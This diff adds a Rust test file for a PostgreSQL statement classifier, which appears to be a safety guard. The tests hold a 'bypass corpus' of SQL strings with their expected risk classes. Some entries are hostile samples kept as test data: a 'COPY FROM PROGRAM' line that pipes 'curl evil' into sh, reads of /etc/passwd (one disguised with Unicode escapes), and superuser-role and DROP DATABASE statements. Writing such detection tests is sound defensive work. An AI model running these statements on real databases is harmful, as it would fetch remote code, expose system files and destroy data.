@@ -1,0 +1,511 @@
+use std::str::FromStr;
+use std::sync::Arc;
+
+use super::StatementClass::{self, Admin, Ddl, Delete, Read, Unknown, Write};
+use super::*;
+
+fn classifier() -> Classifier {
+    Classifier::new(&["audit.purge".to_string(), "Wipe_All".to_string()])
+}
+
+/// The bypass corpus: each text, the class it must get, and exactly the
+/// flags (over all its statements) it must carry.
+const CORPUS: &[(&str, StatementClass, &[&str])] = &[
+    // Plain reads, and disguises that must stay reads.
+    ("SELECT 1", Read, &[]),
+    ("SeLeCt * FrOm users", Read, &[]),
+    ("/* DELETE FROM t */ SELECT 1", Read, &[]),
+    ("-- DROP TABLE t\nSELECT 1", Read, &[]),
+    ("SELECT $$DELETE FROM t$$", Read, &[]),
+    ("SELECT $tag$ DROP TABLE users; $tag$ AS x", Read, &[]),
+    ("SELECT 'pg_read_file(''/etc/passwd'')'", Read, &[]),
+    ("SELECT \"delete\" FROM \"drop\"", Read, &[]),
+    ("VALUES (1), (2)", Read, &[]),
+    ("TABLE users", Read, &[]),
+    ("WITH x AS (SELECT 1) SELECT * FROM x", Read, &[]),
+    ("SELECT count(*), lower(name) FROM users GROUP BY 2", Read, &[]),
+    ("SELECT abalance FROM pgbench_accounts WHERE aid = $1", Read, &[]),
+    ("EXPLAIN DELETE FROM t", Read, &[]),
+    ("EXPLAIN (ANALYZE false) DELETE FROM t", Read, &[]),
+    ("EXPLAIN (ANALYZE off, COSTS on) UPDATE t SET a = 1", Read, &[]),
+    ("EXPLAIN ANALYZE SELECT 1", Read, &["explain_analyze"]),
+    ("SHOW search_path", Read, &[]),
+    ("SET search_path TO app, public", Read, &[]),
+    ("SET statement_timeout = '5s'", Read, &[]),
+    ("SET LOCAL lock_timeout = 100", Read, &[]),
+    ("RESET ALL", Read, &[]),
+    ("BEGIN", Read, &[]),
+    ("BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY", Read, &[]),
+    ("START TRANSACTION", Read, &[]),
+    ("SAVEPOINT s1", Read, &[]),
+    ("RELEASE SAVEPOINT s1", Read, &[]),
+    ("ROLLBACK TO SAVEPOINT s1", Read, &[]),
+    ("COMMIT", Read, &[]),
+    ("ROLLBACK", Read, &[]),
+    ("SET default_transaction_read_only = on", Read, &[]),
+    ("DISCARD ALL", Read, &[]),
+    ("LISTEN jobs", Read, &[]),
+    ("UNLISTEN *", Read, &[]),
+    ("DEALLOCATE ALL", Read, &[]),
+    ("DECLARE c CURSOR FOR SELECT * FROM t", Read, &[]),
+    ("FETCH 10 FROM c", Read, &[]),
+    ("CLOSE c", Read, &[]),
+    ("COPY t TO STDOUT", Read, &[]),
+    ("COPY (SELECT * FROM t WHERE a > 1) TO STDOUT WITH (FORMAT csv)", Read, &[]),
+    ("", Read, &[]),
+    ("-- only a comment", Read, &[]),
+    // Writes.
+    ("INSERT INTO t VALUES (1)", Write, &[]),
+    ("INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a", Write, &["upsert"]),
+    ("INSERT INTO t (a) VALUES (1) ON CONFLICT DO NOTHING", Write, &[]),
+    ("UPDATE t SET a = 1 WHERE id = 2", Write, &[]),
+    ("UPDATE t SET a = 1", Write, &["update_without_where"]),
+    (
+        "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2",
+        Write,
+        &[],
+    ),
+    (
+        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)",
+        Write,
+        &[],
+    ),
+    ("SELECT * FROM t WHERE id = 1 FOR UPDATE", Write, &["row_locks"]),
+    ("SELECT * FROM t FOR SHARE SKIP LOCKED", Write, &["row_locks"]),
+    ("SELECT * FROM t WHERE id = 1 FOR NO KEY UPDATE OF t NOWAIT", Write, &["row_locks"]),
+    ("SELECT 1 FROM t WHERE pg_try_advisory_lock(id)", Write, &["side_effect_function"]),
+    ("SELECT * FROM (SELECT * FROM t FOR UPDATE) s", Write, &["row_locks"]),
+    ("WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM i", Write, &["data_modifying_cte"]),
+    ("COPY t FROM STDIN", Write, &["copy_from"]),
+    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", Write, &["lock_table"]),
+    ("NOTIFY jobs, 'go'", Write, &["notify"]),
+    ("SELECT pg_notify('jobs', 'go')", Write, &["side_effect_function"]),
+    ("SELECT nextval('s')", Write, &["side_effect_function"]),
+    ("SELECT setval('s', 1)", Write, &["side_effect_function"]),
+    ("INSERT INTO t VALUES (nextval('s'))", Write, &["side_effect_function"]),
+    ("SELECT set_config('search_path', 'x', false)", Write, &["side_effect_function"]),
+    ("SELECT pg_advisory_lock(42)", Write, &["side_effect_function"]),
+    ("SELECT * FROM t LIMIT (SELECT nextval('s'))", Write, &["side_effect_function"]),
+    ("VALUES (pg_catalog.NEXTVAL('s'))", Write, &["side_effect_function"]),
+    ("REFRESH MATERIALIZED VIEW mv", Write, &[]),
+    ("EXPLAIN ANALYZE INSERT INTO t VALUES (1)", Write, &["explain_analyze"]),
+    ("PREPARE p (int) AS UPDATE t SET a = $1 WHERE id = 1", Write, &[]),
+    // Deletes.
+    ("DELETE FROM t WHERE id = 1", Delete, &[]),
+    ("DELETE FROM t", Delete, &["delete_without_where"]),
+    ("delete from t -- WHERE id = 1", Delete, &["delete_without_where"]),
+    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", Delete, &["delete_without_where", "data_modifying_cte"]),
+    (
+        "WITH a AS (SELECT 1), b AS (WITH c AS (DELETE FROM t WHERE x = 1 RETURNING 1) SELECT * FROM c) SELECT * FROM b",
+        Delete,
+        &["data_modifying_cte"],
+    ),
+    ("SELECT 1; -- \n DELETE FROM t", Delete, &["delete_without_where"]),
+    ("SELECT 1; DELETE FROM t WHERE id = 1; SELECT 2", Delete, &[]),
+    ("TRUNCATE t", Delete, &["truncate"]),
+    ("TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", Delete, &["truncate"]),
+    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", Delete, &[]),
+    ("EXPLAIN ANALYZE DELETE FROM t", Delete, &["delete_without_where", "explain_analyze"]),
+    ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t WHERE a = 1", Delete, &["explain_analyze"]),
+    ("EXPLAIN (ANALYZE 1) DELETE FROM t WHERE a = 1", Delete, &["explain_analyze"]),
+    ("EXPLAIN (ANALYZE 'on') DELETE FROM t WHERE a = 1", Delete, &["explain_analyze"]),
+    ("PREPARE d AS DELETE FROM t", Delete, &["delete_without_where"]),
+    ("COPY (DELETE FROM t RETURNING *) TO STDOUT", Delete, &["delete_without_where"]),
+    ("SELECT lo_unlink(1234)", Delete, &["side_effect_function"]),
+    // WHERE clauses that pick no rows are no WHERE at all.
+    ("DELETE FROM t WHERE true", Delete, &["delete_without_where"]),
+    ("DELETE FROM t WHERE 1 = 1", Delete, &["delete_without_where"]),
+    ("DELETE FROM t WHERE $1", Delete, &["delete_without_where"]),
+    ("DELETE FROM t WHERE now() > '2000-01-01'", Delete, &["delete_without_where"]),
+    ("DELETE FROM t WHERE id = 5 OR 'x' = 'x'", Delete, &["delete_without_where"]),
+    ("UPDATE t SET a = 1 WHERE id = 5 OR 't'::boolean", Write, &["update_without_where"]),
+    ("UPDATE t SET a = 1 WHERE NOT false", Write, &["update_without_where"]),
+    (
+        "WITH d AS (DELETE FROM t WHERE 1 >= 1 RETURNING 1) SELECT * FROM d",
+        Delete,
+        &["delete_without_where", "data_modifying_cte"],
+    ),
+    ("DELETE FROM t WHERE id = 1 OR id = 2", Delete, &[]),
+    ("DELETE FROM t WHERE CURRENT OF c", Delete, &[]),
+    ("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE", Delete, &[]),
+    // Schema changes.
+    ("CREATE TABLE x (a int)", Ddl, &[]),
+    ("CREATE TABLE x AS SELECT * FROM t", Ddl, &["select_into"]),
+    ("SELECT * INTO x FROM t", Ddl, &["select_into"]),
+    ("CREATE MATERIALIZED VIEW mv AS SELECT 1", Ddl, &["select_into"]),
+    ("CREATE INDEX CONCURRENTLY i ON t (a)", Ddl, &[]),
+    ("CREATE VIEW v AS SELECT * FROM t", Ddl, &[]),
+    ("ALTER TABLE t ADD COLUMN b int", Ddl, &[]),
+    ("ALTER TABLE t DROP COLUMN b", Ddl, &["drop"]),
+    ("DROP TABLE t", Ddl, &["drop"]),
+    ("drop table if exists t cascade", Ddl, &["drop"]),
+    ("DROP SCHEMA app CASCADE", Ddl, &["drop"]),
+    ("DROP DATABASE prod", Ddl, &["drop"]),
+    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM t; SELECT 1 $$", Ddl, &[]),
+    ("COMMENT ON TABLE t IS 'x'", Ddl, &[]),
+    ("ALTER TABLE t RENAME TO u", Ddl, &[]),
+    ("CREATE SEQUENCE s", Ddl, &[]),
+    ("CREATE TABLE x (a int DEFAULT nextval('s'))", Ddl, &["side_effect_function"]),
+    ("CREATE TABLE x AS EXECUTE p", Unknown, &["select_into", "execute"]),
+    ("CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", Ddl, &[]),
+    // Admin.
+    ("GRANT SELECT ON t TO bob", Admin, &["grant"]),
+    ("REVOKE ALL ON t FROM bob", Admin, &["grant"]),
+    ("GRANT admin TO bob", Admin, &["grant"]),
+    ("CREATE SCHEMA s CREATE TABLE x (a int) GRANT SELECT ON x TO bob", Admin, &["grant"]),
+    ("CREATE ROLE eve SUPERUSER LOGIN", Admin, &["role_admin"]),
+    ("ALTER ROLE bob WITH PASSWORD 'x'", Admin, &["role_admin"]),
+    ("DROP ROLE bob", Admin, &["drop", "role_admin"]),
+    ("ALTER SYSTEM SET work_mem = '1GB'", Admin, &["alter_system"]),
+    ("VACUUM FULL t", Admin, &["maintenance"]),
+    ("ANALYZE t", Admin, &["maintenance"]),
+    ("CLUSTER t USING i", Admin, &["maintenance"]),
+    ("REINDEX TABLE t", Admin, &["maintenance"]),
+    ("CHECKPOINT", Admin, &[]),
+    ("LOAD 'plpgsql'", Admin, &[]),
+    ("CREATE EXTENSION dblink", Admin, &[]),
+    ("SET ROLE postgres", Admin, &["set_role"]),
+    ("set local role none", Admin, &["set_role"]),
+    ("RESET ROLE", Admin, &["set_role"]),
+    ("SET SESSION AUTHORIZATION postgres", Admin, &["set_role"]),
+    ("SET session_replication_role = replica", Admin, &["guarded_setting"]),
+    ("SET log_statement = 'none'", Admin, &["guarded_setting"]),
+    ("SET default_transaction_read_only = off", Admin, &["read_only_override"]),
+    ("SET transaction_read_only TO false", Admin, &["read_only_override"]),
+    ("BEGIN READ WRITE", Admin, &["read_only_override"]),
+    ("START TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ WRITE", Admin, &["read_only_override"]),
+    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", Admin, &["read_only_override"]),
+    ("PREPARE TRANSACTION 'x'", Admin, &[]),
+    ("COMMIT PREPARED 'x'", Admin, &[]),
+    ("COPY t FROM '/etc/passwd'", Admin, &["copy_from", "file_access"]),
+    ("COPY t TO '/tmp/out.csv'", Admin, &["file_access"]),
+    ("COPY t FROM PROGRAM 'curl evil | sh'", Admin, &["copy_from", "copy_program"]),
+    ("COPY (SELECT 1) TO PROGRAM 'cat > /tmp/x'", Admin, &["copy_program"]),
+    ("SELECT pg_read_file('/etc/passwd')", Admin, &["side_effect_function", "file_access"]),
+    ("SELECT * FROM pg_ls_dir('.')", Admin, &["side_effect_function", "file_access"]),
+    ("SELECT lo_import('/etc/passwd')", Admin, &["side_effect_function", "file_access"]),
+    ("SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity", Admin, &["side_effect_function"]),
+    ("SELECT \"pg_cancel_backend\"(123)", Admin, &["side_effect_function"]),
+    ("SELECT PG_RELOAD_CONF()", Admin, &["side_effect_function"]),
+    ("SELECT U&\"pg\\005fread\\005ffile\"('/etc/passwd')", Admin, &["side_effect_function", "file_access"]),
+    ("SELECT postgres.pg_catalog.pg_read_file('x')", Admin, &["side_effect_function", "file_access"]),
+    ("SET \"session_replication_role\" = 'replica'", Admin, &["guarded_setting"]),
+    ("SELECT 1 WHERE EXISTS (SELECT pg_terminate_backend(1))", Admin, &["side_effect_function"]),
+    ("SELECT coalesce(NULL, pg_read_file('x'))", Admin, &["side_effect_function", "file_access"]),
+    ("SELECT length(upper(pg_read_binary_file('x')::text))", Admin, &["side_effect_function", "file_access"]),
+    ("WITH x AS (SELECT pg_switch_wal()) SELECT * FROM x", Admin, &["side_effect_function"]),
+    ("SELECT * FROM t ORDER BY pg_cancel_backend(1)", Admin, &["side_effect_function"]),
+    ("SELECT count(*) FILTER (WHERE pg_reload_conf()) FROM t", Admin, &["side_effect_function"]),
+    ("SELECT sum(a) OVER (PARTITION BY pg_rotate_logfile()) FROM t", Admin, &["side_effect_function"]),
+    ("SELECT CASE WHEN a THEN pg_promote() END FROM t", Admin, &["side_effect_function"]),
+    ("SELECT * FROM t OFFSET (SELECT pg_logical_emit_message(true, 'x', 'y'))::int", Admin, &["side_effect_function"]),
+    ("SELECT set_config('role', 'postgres', false)", Admin, &["side_effect_function", "set_role"]),
+    ("SELECT set_config('session_replication_role', 'replica', true)", Admin, &["side_effect_function", "guarded_setting"]),
+    ("SELECT set_config(name, 'x', false) FROM pg_settings", Admin, &["side_effect_function"]),
+    ("SELECT purge()", Admin, &["side_effect_function"]),
+    ("SELECT audit.purge()", Admin, &["side_effect_function"]),
+    ("SELECT wipe_all()", Admin, &["side_effect_function"]),
+    ("EXPLAIN ANALYZE SELECT pg_terminate_backend(1)", Admin, &["side_effect_function", "explain_analyze"]),
+    // Unknown.
+    ("DO $$ BEGIN DELETE FROM t; END $$", Unknown, &["do_block"]),
+    ("DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'", Unknown, &["do_block"]),
+    ("CALL do_things(1)", Unknown, &["call"]),
+    ("EXECUTE p(1)", Unknown, &["execute"]),
+    ("SELECT * FROM dblink('dbname=x', 'DELETE FROM t') AS r(a int)", Unknown, &["side_effect_function"]),
+    ("SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')", Unknown, &["side_effect_function"]),
+    ("SELEC 1", Unknown, &[]),
+    ("DELETE FROM", Unknown, &[]),
+    ("SELECT 1; DROP TABLE t; DO $$ BEGIN END $$", Unknown, &["drop", "do_block"]),
+    ("SELECT 'unterminated", Unknown, &[]),
+];
+
+#[test]
+fn bypass_corpus() {
+    let c = classifier();
+    let mut failures = Vec::new();
+    for &(sql, class, flags) in CORPUS {
+        let got = c.classify(sql);
+        let mut want: Vec<&str> = flags.to_vec();
+        want.sort_unstable();
+        let mut have = got.flags().names();
+        have.sort_unstable();
+        if got.class != class || have != want {
+            failures.push(format!(
+                "{sql:?}: want {class} {want:?}, got {} {have:?} ({:?})",
+                got.class,
+                got.statements.iter().map(|s| s.command.as_str()).collect::<Vec<_>>()
+            ));
+        }
+    }
+    assert!(CORPUS.len() >= 60);
+    assert!(
+        failures.is_empty(),
+        "{} of {} wrong:\n{}",
+        failures.len(),
+        CORPUS.len(),
+        failures.join("\n")
+    );
+}
+
+fn one(sql: &str) -> StatementInfo {
+    let c = classifier().classify(sql);
+    assert_eq!(c.statements.len(), 1, "{sql}: {c:?}");
+    c.statements[0].clone()
+}
+
+#[test]
+fn commands() {
+    let cases = [
+        ("select 1", "SELECT"),
+        ("SELECT * INTO x FROM t", "SELECT INTO"),
+        ("INSERT INTO t VALUES (1)", "INSERT"),
+        ("UPDATE t SET a = 1", "UPDATE"),
+        ("DELETE FROM t", "DELETE"),
+        ("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", "MERGE"),
+        ("CREATE TABLE x (a int)", "CREATE TABLE"),
+        ("CREATE TABLE x AS SELECT 1", "CREATE TABLE AS"),
+        ("DROP TABLE t", "DROP TABLE"),
+        ("DROP MATERIALIZED VIEW mv", "DROP MATERIALIZED VIEW"),
+        ("ALTER INDEX i RENAME TO j", "ALTER INDEX RENAME"),
+        ("TRUNCATE t", "TRUNCATE"),
+        ("ALTER SYSTEM SET x = 1", "ALTER SYSTEM"),
+        ("COPY t FROM STDIN", "COPY FROM"),
+        ("COPY t TO STDOUT", "COPY TO"),
+        ("DO $$ BEGIN END $$", "DO"),
+        ("CALL p()", "CALL"),
+        ("SET ROLE bob", "SET ROLE"),
+        ("RESET ROLE", "RESET ROLE"),
+        ("SET SESSION AUTHORIZATION bob", "SET SESSION AUTHORIZATION"),
+        ("SET x.y = 1", "SET"),
+        ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "SET TRANSACTION"),
+        ("EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN ANALYZE"),
+        ("EXPLAIN SELECT 1", "EXPLAIN"),
+        ("GRANT SELECT ON t TO bob", "GRANT"),
+        ("REVOKE SELECT ON t FROM bob", "REVOKE"),
+        ("VACUUM t", "VACUUM"),
+        ("ANALYZE t", "ANALYZE"),
+        ("PREPARE p AS SELECT 1", "PREPARE"),
+        ("EXECUTE p", "EXECUTE"),
+        ("BEGIN", "BEGIN"),
+        ("SHOW ALL", "SHOW"),
+        (
+            "CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$",
+            "CREATE PROCEDURE",
+        ),
+    ];
+    for (sql, command) in cases {
+        assert_eq!(one(sql).command, command, "{sql}");
+    }
+}
+
+#[test]
+fn multi_statement_lists_each() {
+    let c = classifier().classify("SELECT 1; UPDATE t SET a = 1 WHERE b; DELETE FROM u WHERE c; GRANT x TO y");
+    let classes: Vec<_> = c.statements.iter().map(|s| s.class).collect();
+    assert_eq!(classes, vec![Read, Write, Delete, Admin]);
+    assert_eq!(c.class, Admin);
+    assert!(c.error.is_none());
+}
+
+#[test]
+fn tables_exclude_ctes_and_keep_schemas() {
+    let s = one("WITH d AS (DELETE FROM app.t RETURNING *) SELECT * FROM d JOIN u ON true JOIN public.d ON true");
+    assert_eq!(s.tables, vec!["app.t", "u", "public.d"]);
+    let s = one("INSERT INTO a SELECT * FROM b WHERE id IN (SELECT id FROM c)");
+    assert_eq!(s.tables, vec!["a", "b", "c"]);
+}
+
+#[test]
+fn functions_and_calls() {
+    let s = one("SELECT lower(x), nextval('s'), pg_catalog.pg_read_file('f') FROM t WHERE f(y)");
+    assert_eq!(s.functions, vec!["nextval", "pg_catalog.pg_read_file"]);
+    assert_eq!(s.calls, vec!["lower", "nextval", "pg_catalog.pg_read_file", "f"]);
+    assert_eq!(s.class, Admin);
+
+    let s = one("CALL app.refresh(nextval('s'))");
+    assert_eq!(s.class, Unknown);
+    assert!(s.functions.contains(&"app.refresh".to_string()));
+    assert!(s.functions.contains(&"nextval".to_string()));
+
+    // A schema-qualified entry matches only its schema (and the bare name).
+    let s = one("SELECT other.purge()");
+    assert_eq!(s.class, Read);
+    assert!(s.functions.is_empty());
+}
+
+#[test]
+fn side_effects_nested_in_arguments_and_clauses() {
+    for sql in [
+        "SELECT format('%s', pg_read_file('x'))",
+        "SELECT * FROM t WHERE a IN (VALUES (pg_read_file('x')))",
+        "SELECT * FROM t JOIN LATERAL pg_ls_dir('.') d ON true",
+        "SELECT * FROM ROWS FROM (pg_ls_dir('.'))",
+        "SELECT (SELECT (SELECT pg_read_file('x')))",
+        "SELECT ARRAY[pg_read_file('x')]",
+        "SELECT row(pg_read_file('x'))",
+        "SELECT * FROM t GROUP BY a HAVING max(pg_read_file('x')) > ''",
+        "SELECT * FROM t WINDOW w AS (ORDER BY pg_read_file('x'))",
+        "SELECT * FROM t LIMIT length(pg_read_file('x'))",
+        "SELECT json_build_object('a', pg_read_file('x'))",
+        "SELECT pg_read_file('x') COLLATE \"C\"",
+        "SELECT x FROM t TABLESAMPLE bernoulli (length(pg_read_file('x')))",
+        "SELECT 1 UNION ALL SELECT length(pg_read_file('x'))",
+        "INSERT INTO t SELECT pg_read_file('x')",
+        "UPDATE t SET a = pg_read_file('x') WHERE id = 1",
+        "DELETE FROM t WHERE a = pg_read_file('x')",
+        "DECLARE c CURSOR FOR SELECT pg_read_file('x')",
+        "PREPARE q AS SELECT pg_read_file('x')",
+    ] {
+        let c = classifier().classify(sql);
+        assert!(c.class >= Admin, "{sql}: {c:?}");
+        assert!(c.flags().file_access, "{sql}");
+    }
+}
+
+#[test]
+fn parse_errors_are_unknown_with_error() {
+    let c = classifier().classify("SELEC 1");
+    assert_eq!(c.class, Unknown);
+    assert!(c.statements.is_empty());
+    assert!(c.error.as_deref().is_some_and(|e| e.contains("syntax error")), "{c:?}");
+    assert!(c.fingerprint.starts_with("raw:"));
+    let nul = classifier().classify("SELECT 1\0; DROP TABLE t");
+    assert_eq!(nul.class, Unknown);
+    assert!(nul.error.is_some());
+}
+
+#[test]
+fn fingerprints() {
+    let c = classifier();
+    let a = c.classify("SELECT * FROM t WHERE id = 1");
+    let b = c.classify("select *  from t where id = 42 /* x */");
+    assert_eq!(a.fingerprint, b.fingerprint);
+    assert_eq!(a.fingerprint.len(), 16);
+    let other_table = c.classify("SELECT * FROM t2 WHERE id = 1");
+    assert_ne!(a.fingerprint, other_table.fingerprint);
+    // Full relation names and schemas count.
+    let p1 = c.classify("DELETE FROM orders_2024_01 WHERE id = 1");
+    let p2 = c.classify("DELETE FROM orders_2024_02 WHERE id = 1");
+    assert_ne!(p1.fingerprint, p2.fingerprint);
+    let s1 = c.classify("DELETE FROM a.t WHERE id = 1");
+    let s2 = c.classify("DELETE FROM b.t WHERE id = 1");
+    assert_ne!(s1.fingerprint, s2.fingerprint);
+}
+
+#[test]
+fn cache_hits_return_the_same_arc_and_stay_bounded() {
+    let c = Classifier::with_side_effects(&[], 8);
+    let a = c.classify("SELECT 1");
+    let b = c.classify("SELECT 1");
+    assert!(Arc::ptr_eq(&a, &b));
+    // Different text, even by a space, is a different entry.
+    let d = c.classify("SELECT  1");
+    assert!(!Arc::ptr_eq(&a, &d));
+    for i in 0..100 {
+        let _ = c.classify(&format!("SELECT {i}"));
+        assert!(c.cached() <= 8);
+    }
+    assert_eq!(c.cached(), 8);
+
+    // A hot entry survives a stream of one-off texts (second chance).
+    let c = Classifier::with_side_effects(&[], 4);
+    let hot = c.classify("SELECT hot");
+    for i in 0..50 {
+        assert!(Arc::ptr_eq(&hot, &c.classify("SELECT hot")));
+        let _ = c.classify(&format!("SELECT {i}"));
+    }
+
+    // Disabled cache.
+    let c = Classifier::with_side_effects(&[], 0);
+    let a = c.classify("SELECT 1");
+    assert!(!Arc::ptr_eq(&a, &c.classify("SELECT 1")));
+    assert_eq!(c.cached(), 0);
+
+    // Long texts are not cached.
+    let c = classifier();
+    let long = format!("SELECT '{}'", "x".repeat(Classifier::MAX_CACHED_SQL_LEN));
+    assert_eq!(c.classify(&long).class, Read);
+    assert_eq!(c.cached(), 0);
+}
+
+#[test]
+fn class_order_names_and_parsing() {
+    assert!(Read < Write && Write < Delete && Delete < Ddl && Ddl < Admin && Admin < Unknown);
+    assert_eq!([Write, Unknown, Read].into_iter().max(), Some(Unknown));
+    for class in StatementClass::ALL {
+        assert_eq!(StatementClass::from_str(class.as_str()), Ok(class));
+        assert_eq!(class.to_string(), class.as_str());
+    }
+    assert_eq!(" DDL ".parse::<StatementClass>(), Ok(Ddl));
+    assert!("drop".parse::<StatementClass>().is_err());
+}
+
+#[test]
+fn custom_effects() {
+    let c = Classifier::with_side_effects(
+        &[
+            (
+                "app.archive".to_string(),
+                SideEffect {
+                    class: Write,
+                    file_access: false,
+                },
+            ),
+            (
+                "app.nuke".to_string(),
+                SideEffect {
+                    class: Delete,
+                    file_access: false,
+                },
+            ),
+        ],
+        16,
+    );
+    assert_eq!(c.classify("SELECT app.archive(1)").class, Write);
+    assert_eq!(c.classify("SELECT nuke()").class, Delete);
+    assert_eq!(c.classify("SELECT other.nuke()").class, Read);
+}
+
+#[test]
+fn deep_nesting_does_not_overflow() {
+    let depth = 2000;
+    let sql = format!("SELECT {}1{}", "(".repeat(depth), ")".repeat(depth));
+    // Either classified or refused by the parser's own depth limit; never a
+    // crash.
+    let c = classifier().classify(&sql);
+    assert!(c.class == Read || c.class == Unknown, "{:?}", c.class);
+}
+
+#[test]
+fn classifier_is_send() {
+    fn send<T: Send>() {}
+    send::<Classifier>();
+    send::<Arc<Classification>>();
+}
+
+#[test]
+fn flags_helpers() {
+    let f = Flags {
+        drop: true,
+        ..Flags::default()
+    }
+    .union(Flags {
+        truncate: true,
+        ..Flags::default()
+    });
+    assert_eq!(f.names(), vec!["drop", "truncate"]);
+    assert!(!f.is_empty());
+    assert!(Flags::default().is_empty());
+    assert!(Flags::NAMES.contains(&"delete_without_where"));
+}
+
+#[test]
+fn every_default_function_classifies() {
+    let c = classifier();
+    for (name, effect) in DEFAULT_SIDE_EFFECT_FUNCTIONS {
+        let got = c.classify(&format!("SELECT {name}(1)"));
+        assert!(got.class >= effect.class, "{name}: {got:?}");
+        assert_eq!(got.statements[0].functions, vec![name.to_string()], "{name}");
+        assert_eq!(got.flags().file_access, effect.file_access, "{name}");
+    }
+}
